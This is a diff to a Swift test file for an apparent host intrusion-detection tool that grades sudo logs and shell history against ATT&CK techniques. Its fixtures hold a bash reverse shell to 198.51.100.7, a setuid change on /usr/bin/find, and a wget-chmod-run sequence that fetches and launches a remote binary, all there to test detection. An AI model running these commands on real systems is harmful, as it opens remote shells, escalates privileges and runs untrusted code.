@@ -96,7 +96,7 @@ import Testing
         Self.event(
           .sudo, "bob",
           "bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/198.51.100.7/1 0>&1")))
-    #expect((sudo.finding("log.command")?.severity ?? .info) >= .info)
+    #expect(sudo.finding("log.command")?.severity == .high)
     let copy = HostSketch(
       .logEvent(
         Self.event(.sudo, "bob", "bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/chmod u+s /usr/bin/find")))
@@ -242,6 +242,15 @@ import Testing
       session.techniques.contains("T1070.003") && session.techniques.contains("T1105")
         && session.techniques.contains("T1059.004"))
     #expect(session.evidence[0].source == "/root/.bash_history:2")
+  }
+
+  @Test func aDeedTypedInSeveralLinesIsSeen() {
+    let host = Self.history(["cd /opt", "wget http://198.51.100.7/agent", "ls", "chmod 755 agent", "./agent"])
+    #expect(host.findings.contains { $0.techniques.contains("T1105") && $0.severity >= .medium })
+    let install = Self.history([
+      "curl -LO https://dl.example.org/install.sh", "less install.sh", "chmod +x install.sh", "./install.sh",
+    ])
+    #expect(install.findings.allSatisfy { $0.severity <= .low })
   }
 
   @Test func anAdministratorsHistoryGivesNothingAboveLow() {
